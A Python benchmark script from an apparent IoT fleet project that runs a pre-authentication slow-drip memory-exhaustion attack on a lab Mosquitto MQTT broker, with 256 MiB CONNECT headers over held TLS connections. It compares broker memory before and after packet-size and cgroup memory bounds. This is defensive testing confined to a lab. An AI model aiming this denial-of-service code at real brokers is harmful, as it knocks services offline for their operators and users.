"""Benchmark: memory an attacker without credentials can make a broker hold (issue 10).

Run as root:  .venv/bin/python bench/preauth.py [--connections 20] [--hold 30]

Boots a one-broker lab and rolls out the lab fleet. The attack needs no credentials: it opens
N TLS connections to the password listener (8884: no client certificate asked), sends an MQTT
CONNECT fixed header announcing a 256 MiB packet and then one byte every few seconds, as a
slow attacker would. While the connections are held it samples the broker process (VmRSS,
VmSize) and the unit's cgroup (memory.current), and counts the connections still open at the
end. It runs twice, side by side:

* before: the same broker without the issue-10 bounds (``max_packet_size`` and
  ``memory_limit`` removed from mosquitto.conf, the unit's MemoryHigh/MemoryMax removed);
* after: the broker as iotfleet rolls it out now.

Bounded in count and time; traffic goes only to the lab's own broker.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import socket
import ssl
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from iotfleet.check.raw_attacks import remaining_length
from iotfleet.lab.state import lab_paths, load_state

REPO = Path(__file__).resolve().parents[1]
LAB = "bench-preauth"
PYINFRA = str(Path(sys.executable).with_name("pyinfra"))
PORT = 8884
ANNOUNCED = 256 * 1024 * 1024 - 1
# CONNECT fixed header (type 1) with the announced remaining length, then the start of the
# variable header: what a client sends before it would send its credentials.
ATTACK_HEAD_START = b"\x00\x04MQTT\x04\xc2\x00\x3c"
DRIP_SECONDS = 5
UNBOUNDED = (
    "sed -i '/^\\(max_packet_size\\|memory_limit\\) /d' /etc/mosquitto/mosquitto.conf && "
    "sed -i '/^Memory\\(High\\|Max\\)=/d' "
    "/etc/systemd/system/mosquitto.service.d/iotfleet-hardening.conf && "
    "systemctl daemon-reload && systemctl restart mosquitto"
)
SAMPLE = (
    "pid=$(systemctl show -p MainPID --value mosquitto); "
    "awk '/^VmRSS:/ {r=$2} /^VmSize:/ {v=$2} END {print r, v}' /proc/$pid/status; "
    "systemctl show -p MemoryCurrent --value mosquitto | sed 's/\\[not set\\]/0/'"
)


@dataclass
class Phase:
    name: str
    rss_peak_kib: int = 0
    vsz_peak_kib: int = 0
    cgroup_peak: int = 0
    open_at_end: int = 0
    opened: int = 0
    sockets: list[ssl.SSLSocket] = field(default_factory=list)


def run(argv: list[str], timeout: float = 1800) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        argv, capture_output=True, text=True, timeout=timeout, check=False, cwd=REPO,
        env={**os.environ, "IOTFLEET_LAB": LAB},
    )  # fmt: skip


def ssh(address: str, command: str) -> str:
    paths = lab_paths(LAB)
    result = run([
        "ssh", "-F", "/dev/null", "-i", str(paths.ssh_key), "-o", "BatchMode=yes",
        "-o", f"UserKnownHostsFile={paths.known_hosts}", f"root@{address}", command,
    ], timeout=120)  # fmt: skip
    if result.returncode != 0:
        sys.exit(f"ssh {address} {command!r} failed:\n{result.stderr}")
    return result.stdout


def attack_one(address: str, phase: Phase, lock: threading.Lock) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # the attacker does not care who the broker is
    raw = socket.create_connection((address, PORT), timeout=10)
    tls = context.wrap_socket(raw)
    tls.sendall(b"\x10" + remaining_length(ANNOUNCED) + ATTACK_HEAD_START)
    with lock:
        phase.sockets.append(tls)
        phase.opened += 1


def still_open(sock: ssl.SSLSocket) -> bool:
    try:
        sock.settimeout(0.2)
        sock.sendall(b"\x00")
        return sock.recv(1) != b""  # a close reads as b""
    except (TimeoutError, ssl.SSLWantReadError):
        return True
    except OSError:
        return False


def attack(address: str, phase: Phase, connections: int, hold: float) -> None:
    lock = threading.Lock()
    threads = [
        threading.Thread(target=attack_one, args=(address, phase, lock)) for _ in range(connections)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=30)
    deadline = time.monotonic() + hold
    next_drip = time.monotonic() + DRIP_SECONDS
    while time.monotonic() < deadline:
        rss, vsz, cgroup = (int(v) for v in ssh(address, SAMPLE).split())
        phase.rss_peak_kib = max(phase.rss_peak_kib, rss)
        phase.vsz_peak_kib = max(phase.vsz_peak_kib, vsz)
        phase.cgroup_peak = max(phase.cgroup_peak, cgroup)
        if time.monotonic() >= next_drip:
            for sock in phase.sockets:
                with contextlib.suppress(OSError):
                    sock.sendall(b"\x00")
            next_drip += DRIP_SECONDS
        time.sleep(1)
    phase.open_at_end = sum(still_open(s) for s in phase.sockets)
    for sock in phase.sockets:
        sock.close()


def rollout() -> None:
    result = run([PYINFRA, "-y", "inventory/lab.py", "deploy/brokers.py"])
    if result.returncode != 0:
        sys.exit(f"rollout failed:\n{result.stdout[-3000:]}{result.stderr[-2000:]}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--connections", type=int, default=20)
    parser.add_argument("--hold", type=float, default=30, help="seconds to hold them")
    parser.add_argument("--keep-lab", action="store_true")
    args = parser.parse_args()
    if os.geteuid() != 0:
        sys.exit("bench/preauth.py needs root (it boots a lab)")
    up = run([sys.executable, "-m", "iotfleet", "lab", "up", "--name", LAB, "--brokers", "1"])
    if up.returncode != 0:
        sys.exit(f"lab up failed:\n{up.stderr}")
    try:
        state = load_state(lab_paths(LAB).state_file)
        assert state is not None
        address = state.hosts[0].address
        rollout()
        phases = [Phase("before (no max_packet_size, no MemoryMax)"), Phase("after (rolled out)")]
        ssh(address, UNBOUNDED)
        attack(address, phases[0], args.connections, args.hold)
        rollout()
        attack(address, phases[1], args.connections, args.hold)
    finally:
        if not args.keep_lab:
            run([sys.executable, "-m", "iotfleet", "lab", "down", "--name", LAB])
    print(f"\npre-auth attack: {args.connections} TLS connections to :{PORT}, each announcing a")
    print(f"256 MiB CONNECT, held {args.hold:.0f} s (one byte every {DRIP_SECONDS} s)\n")
    print(f"{'broker':44} {'opened':>6} {'open at end':>11} {'RSS peak':>10} {'VSZ peak':>10} "
          f"{'cgroup peak':>11}")  # fmt: skip
    for p in phases:
        print(
            f"{p.name:44} {p.opened:>6} {p.open_at_end:>11} {p.rss_peak_kib / 1024:>8.1f}MB "
            f"{p.vsz_peak_kib / 1024:>8.1f}MB {p.cgroup_peak / 2**20:>9.1f}MB"
        )
    before, after = phases
    ratio = after.vsz_peak_kib / max(before.vsz_peak_kib, 1)
    print(f"\nreserved memory (VSZ) after / before: {ratio:.3f}")


if __name__ == "__main__":
    main()
